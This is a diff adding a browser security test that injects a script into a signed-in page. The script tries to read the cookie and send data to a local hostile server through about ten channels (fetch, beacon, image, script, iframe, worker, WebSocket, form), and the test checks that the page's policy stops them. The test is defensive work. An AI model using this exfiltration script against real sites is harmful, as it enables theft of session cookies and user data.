@@ -363,6 +363,67 @@ def test_a_click_in_a_tab_that_was_signed_out_does_nothing(
 # what pages and sockets carry
 
 
+INJECTED = """
+async (there) => {
+  const told = {cookie: document.cookie};
+  const attempt = async (name, doing) => {
+    try { told[name] = await doing(); } catch (error) { told[name] = "stopped"; }
+  };
+  const loads = (tag, fill) => () => new Promise((done) => {
+    const made = document.createElement(tag);
+    made.onload = () => done("loaded");
+    made.onerror = () => done("stopped");
+    Object.assign(made, fill);
+    document.body.append(made);
+    setTimeout(() => done("stopped"), 1000);
+  });
+  await attempt("fetch", async () => (await fetch(there + "/fetch", {mode: "no-cors"})).type);
+  await attempt("beacon", async () => { navigator.sendBeacon(there + "/beacon", "x"); });
+  await attempt("picture", loads("img", {src: there + "/picture"}));
+  await attempt("script", loads("script", {src: there + "/script"}));
+  await attempt("style", loads("link", {rel: "stylesheet", href: there + "/style"}));
+  await attempt("prefetch", loads("link", {rel: "prefetch", href: there + "/prefetch"}));
+  await attempt("frame", loads("iframe", {src: there + "/frame"}));
+  await attempt("worker", async () => { new Worker(there + "/worker"); });
+  await attempt("socket", () => new Promise((done) => {
+    const socket = new WebSocket(there.replace("http", "ws") + "/socket");
+    socket.onopen = () => done("open");
+    socket.onerror = () => done("stopped");
+  }));
+  const form = Object.assign(document.createElement("form"), {action: there + "/form"});
+  document.body.append(form);
+  form.submit();
+  await new Promise((done) => setTimeout(done, 500));
+  return told;
+}
+"""
+
+
+def test_a_script_in_our_pages_could_only_leave_by_going_elsewhere(
+    browser: Browser, served: Served, hostile: Elsewhere
+) -> None:
+    """There is no way in for one. If there were, this is what the policy stops, and what not."""
+    context, page = signed_in(browser, served)
+    there = f"http://127.0.0.1:{hostile.port}"
+
+    told = page.evaluate(
+        """([code, there]) => new Promise((done) => {
+          window.injectedIsDone = done;
+          const script = document.createElement("script");
+          script.text = `(${code})("${there}").then(window.injectedIsDone)`;
+          document.body.append(script);
+        })""",
+        [INJECTED, there],
+    )
+    stopped = list(hostile.heard)
+    page.evaluate("(there) => { location = there + '/went?' + document.title; }", there)
+    until("it went there", lambda: any("GET /went?" in each for each in hostile.heard))
+
+    assert told["cookie"] == ""
+    assert stopped == []
+    context.close()
+
+
 def test_no_page_no_answer_and_no_socket_ever_carries_a_stored_secret(
     browser: Browser, bucketvault: Program
 ) -> None:
